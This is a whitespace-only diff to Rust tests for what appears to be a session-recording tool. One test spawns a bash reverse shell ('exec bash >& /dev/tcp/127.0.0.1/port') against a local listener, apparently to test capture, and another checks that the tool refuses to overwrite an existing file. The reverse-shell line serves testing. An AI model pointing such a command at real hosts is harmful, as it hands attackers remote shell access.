@@ -31,8 +31,7 @@ fn record(bed: &Bed) -> PathBuf {
     assert!(within(PATIENCE, || output("hooks attached")));
     let peer = Peer::listen("127.0.0.1");
     let code = format!("exec bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
-    let mut shell =
-        bed.command("bash").args(["-c", &code]).stderr(Stdio::null()).spawn().unwrap();
+    let mut shell = bed.command("bash").args(["-c", &code]).stderr(Stdio::null()).spawn().unwrap();
     peer.shell().exit();
     shell.wait().unwrap();
     let work = bed.command("sh").args(["-c", "ls / | sort | head -3 >/dev/null"]).status();
@@ -132,8 +131,7 @@ fn what_is_no_capture_is_told() {
     }
     let there = bed.path("there");
     fs::write(&there, "precious").unwrap();
-    let output =
-        Command::new(program()).args(["record", "-o"]).arg(&there).output().unwrap();
+    let output = Command::new(program()).args(["record", "-o"]).arg(&there).output().unwrap();
     assert_eq!(output.status.code(), Some(1));
     assert!(text(&output.stderr).contains("a capture replaces nothing"));
     assert_eq!(fs::read_to_string(&there).unwrap(), "precious");
